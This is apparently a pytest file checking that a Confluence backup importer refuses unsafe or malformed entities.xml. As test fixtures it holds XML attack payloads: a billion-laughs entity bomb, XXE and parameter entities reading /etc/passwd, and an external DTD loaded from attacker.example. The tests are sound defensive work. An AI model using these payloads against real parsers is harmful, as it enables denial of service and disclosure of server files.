"""read_confluence_xml on hostile or broken entities.xml: refused before anything is expanded."""

import io
import os
import time

import pytest

from importers.confluence.xml import read_confluence_xml
from importers.zipsafe import SafeArchive, UnsafeArchive
from tests.importers.builders import make_zip
from tests.importers.confluence.xml_builders import Backup, archive_of


def test_entities_xml_is_streamed_not_read_whole():
    backup = Backup().space()
    backup.page("100", "Home")
    archive = backup.archive()
    for entry in archive._entries:
        if entry.path == "entities.xml":
            object.__setattr__(entry, "read", lambda: pytest.fail("entities.xml read whole"))

    assert [page.title for page in read_confluence_xml(archive).roots] == ["Home"]


def test_it_refuses_a_zip_without_entities_xml():
    archive = SafeArchive(io.BytesIO(make_zip({"page.html": b"<p>hi</p>"})))

    with pytest.raises(UnsafeArchive, match=r"no entities\.xml"):
        read_confluence_xml(archive)


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<hibernate-generic><object class="Page" package="com.atlassian.confluence.pages">
<id name="id">1</id><property name="title">&lol9;</property>
</object></hibernate-generic>
"""
XXE = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE hibernate-generic [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<hibernate-generic><object class="Page" package="com.atlassian.confluence.pages">
<id name="id">1</id><property name="title">&xxe;</property>
</object></hibernate-generic>
"""
EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE hibernate-generic SYSTEM "http://attacker.example/evil.dtd">
<hibernate-generic/>
"""
PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE x [<!ENTITY % remote SYSTEM "file:///etc/passwd"> %remote;]><x/>
"""
DOCTYPE_AFTER_COMMENTS = """\ufeff<?xml version="1.0"?>
<!-- exported by Confluence --><?pi data?>
<!doctype hibernate-generic [<!ENTITY e "x">]><hibernate-generic/>
"""


@pytest.mark.parametrize(
    "document", [BILLION_LAUGHS, XXE, EXTERNAL_DTD, PARAMETER_ENTITY, DOCTYPE_AFTER_COMMENTS]
)
def test_it_refuses_dtds_and_entity_declarations(document):
    started = time.monotonic()

    with pytest.raises(UnsafeArchive, match="DTDs and entities are not allowed") as refused:
        read_confluence_xml(archive_of(document))

    assert time.monotonic() - started < 30  # a hang guard: expanding the entities never ends
    assert "root:" not in str(refused.value)  # nothing of /etc/passwd comes back


def test_an_undeclared_entity_in_the_document_is_refused():
    document = '<hibernate-generic><object class="Page"><id name="id">1</id>'
    document += '<property name="title">&xxe;</property></object></hibernate-generic>'

    with pytest.raises(UnsafeArchive, match="not well-formed XML"):
        read_confluence_xml(archive_of(document))


@pytest.mark.parametrize(
    ("document", "message"),
    [
        (b"<hibernate-generic><object>", "not well-formed XML"),
        ("<hibernate-generic/>".encode("utf-16"), "not UTF-8"),
        (b"PK\x03\x04 binary", "not an XML document"),
        (b"<!-- " + os.urandom(1024**2).hex().encode(), "before its first element"),
    ],
)
def test_it_refuses_what_is_not_a_confluence_entities_xml(document, message):
    with pytest.raises(UnsafeArchive, match=message):
        read_confluence_xml(archive_of(document))


def test_an_empty_backup_is_an_empty_tree():
    tree = read_confluence_xml(archive_of(b'<?xml version="1.0"?><hibernate-generic/>'))

    assert tree.roots == [] and tree.warnings == []
